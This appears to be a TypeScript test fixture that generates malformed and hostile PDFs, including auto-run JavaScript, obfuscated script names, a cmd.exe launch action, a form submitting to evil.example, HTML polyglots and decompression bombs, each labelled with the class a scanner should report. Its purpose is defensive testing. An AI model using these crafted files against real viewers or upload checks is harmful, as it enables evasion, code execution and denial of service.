import { deflateSync } from "node:zlib";

type Parts = {
	/** Objects after the catalogue and the page, as they are written, without their numbers. */
	objects?: (string | Buffer)[];
	catalogue?: string;
	trailer?: string;
	version?: string;
};

/** A PDF of one empty page, by hand, with a right table of offsets. */
export function handmadePdf({ objects = [], catalogue = "", trailer = "", version = "1.7" }: Parts = {}): Buffer {
	const bodies = [
		`<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`,
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
		...objects,
	].map((body) => Buffer.from(body as string, "latin1"));
	const parts = [Buffer.from(`%PDF-${version}\n%\u00e2\u00e3\u00cf\u00d3\n`, "latin1")];
	const offsets: number[] = [];
	const length = () => parts.reduce((sum, part) => sum + part.length, 0);
	for (const [index, body] of bodies.entries()) {
		offsets.push(length());
		parts.push(Buffer.from(`${index + 1} 0 obj\n`), body, Buffer.from("\nendobj\n"));
	}
	const table = length();
	const lines = offsets.map((offset) => `${String(offset).padStart(10, "0")} 00000 n \n`).join("");
	const size = bodies.length + 1;
	parts.push(Buffer.from(`xref\n0 ${size}\n0000000000 65535 f \n${lines}trailer\n`));
	parts.push(Buffer.from(`<< /Size ${size} /Root 1 0 R ${trailer} >>\nstartxref\n${table}\n%%EOF\n`));
	return Buffer.concat(parts);
}

/** A stream as an object has it. */
export function streamObject(content: Buffer, dictionary = "/Filter /FlateDecode"): Buffer {
	const head = `<< /Length ${content.length} ${dictionary} >>\nstream\n`;
	return Buffer.concat([Buffer.from(head, "latin1"), content, Buffer.from("\nendstream")]);
}

/** An object stream with these objects, numbered from 10 on. */
export function objectStream(
	objects: string[],
	pack: (bytes: Buffer) => Buffer = deflateSync,
	filter = "/FlateDecode",
) {
	let offset = 0;
	const pairs = objects.map((object, index) => {
		const pair = `${index + 10} ${offset}`;
		offset += object.length + 1;
		return pair;
	});
	const head = `${pairs.join(" ")} `;
	const content = pack(Buffer.from(`${head}${objects.join("\n")}\n`, "latin1"));
	return streamObject(
		content,
		`/Type /ObjStm /N ${objects.length} /First ${head.length} ${filter && `/Filter ${filter}`}`,
	);
}

const script = "<< /S /JavaScript /JS (app.alert(1)) >>";

/** PDFs that no applicant sends, by what is wrong with them, with what is found. */
export const hostilePdfs: Readonly<Record<string, { found: string; make: (whole: Buffer) => Buffer }>> = {
	"a script that runs when it is opened": {
		found: "active",
		make: () => handmadePdf({ catalogue: "/OpenAction 4 0 R", objects: [script] }),
	},
	"a script whose name is written by numbers": {
		found: "active",
		make: () => handmadePdf({ objects: ["<< /S /J#61va#53cript /J#53 (x) >>"] }),
	},
	"a script in an object stream": { found: "active", make: () => handmadePdf({ objects: [objectStream([script])] }) },
	"a script in an object stream that is not packed": {
		found: "active",
		make: () => handmadePdf({ objects: [objectStream([script], (bytes) => bytes, "")] }),
	},
	"objects packed as hardly anybody packs them": {
		found: "active",
		make: () =>
			handmadePdf({
				objects: [objectStream([script], (bytes) => Buffer.from(`${bytes.toString("hex")}>`), "/ASCIIHexDecode")],
			}),
	},
	"an object in the bytes of a stream": {
		found: "active",
		make: () => handmadePdf({ objects: [streamObject(Buffer.from(`9 0 obj\n${script}\nendobj`), "")] }),
	},
	"an object in a string": {
		found: "active",
		make: () => handmadePdf({ objects: [`<< /Title (9 0 obj ${script.replace(/\(.*\)/, "4 0 R")} endobj) >>`] }),
	},
	"a program that it starts": {
		found: "active",
		make: () => handmadePdf({ objects: ["<< /S /Launch /F (cmd.exe) >>"] }),
	},
	"an attached file": {
		found: "active",
		make: () => handmadePdf({ catalogue: "/Names << /EmbeddedFiles << /Names [] >> >>" }),
	},
	"a form that sends itself": {
		found: "active",
		make: () => handmadePdf({ objects: ["<< /S /SubmitForm /F (https://evil.example) >>"] }),
	},
	"a password": {
		found: "encrypted",
		make: () => handmadePdf({ objects: ["<< /Filter /Standard /V 4 >>"], trailer: "/Encrypt 4 0 R" }),
	},
	"nothing but a header and a page of a browser": {
		found: "mixed",
		make: () => Buffer.from("%PDF-1.7\n<html><script>alert(1)</script></html>\n".padEnd(400)),
	},
	"a page of a browser before it": {
		found: "mixed",
		make: (whole) => Buffer.concat([Buffer.from("<html><script>alert(1)</script><!--\n"), whole]),
	},
	"a script around it": {
		found: "mixed",
		make: (whole) => Buffer.concat([Buffer.from("a=/*\n"), whole, Buffer.from("*/1;alert(1)")]),
	},
	"a page of a browser after it": {
		found: "mixed",
		make: (whole) => Buffer.concat([whole, Buffer.from("<script>alert(1)</script>\n")]),
	},
	"a long page of a browser after it": {
		found: "mixed",
		make: (whole) => Buffer.concat([whole, Buffer.alloc(9000, 0x41), Buffer.from("<html></html>")]),
	},
	"a ZIP after it": {
		found: "mixed",
		make: (whole) => Buffer.concat([whole, Buffer.from("PK\x05\x06"), Buffer.alloc(18)]),
	},
	"a picture before it": {
		found: "mixed",
		make: (whole) => Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), whole]),
	},
	"its end missing": { found: "damaged", make: (whole) => whole.subarray(0, whole.length * 0.8) },
	"its length in front longer than it is": {
		found: "damaged",
		make: (whole) =>
			Buffer.from(
				whole.toString("latin1").replace("\n", "\n99 0 obj\n<< /Linearized 1 /L 99999999 >>\nendobj\n"),
				"latin1",
			),
	},
	"a stream without an end": {
		found: "damaged",
		make: () =>
			Buffer.from(
				handmadePdf({ objects: [streamObject(deflateSync("x"))] })
					.toString("latin1")
					.replace("endstream", "endstrea_"),
				"latin1",
			),
	},
	"gigabytes of nothing": {
		found: "unpacked",
		make: () => {
			const zeros = deflateSync(Buffer.alloc(40 * 1024 * 1024));
			return handmadePdf({ objects: Array.from({ length: 16 }, () => streamObject(zeros)) });
		},
	},
	"what is packed twice": {
		found: "unpacked",
		make: () =>
			handmadePdf({
				objects: [
					streamObject(deflateSync(deflateSync(Buffer.alloc(1_000_000))), "/Filter [/FlateDecode /FlateDecode]"),
				],
			}),
	},
	"a picture as large as a field": {
		found: "unpacked",
		make: () =>
			handmadePdf({
				objects: [
					streamObject(
						deflateSync("x"),
						"/Subtype /Image /Width 65000 /Height 65000 /BitsPerComponent 8 /Filter /FlateDecode",
					),
				],
			}),
	},
	"more streams than pages could need": {
		found: "unpacked",
		make: () => handmadePdf({ objects: Array.from({ length: 20_100 }, () => streamObject(Buffer.from("q"), "")) }),
	},
};
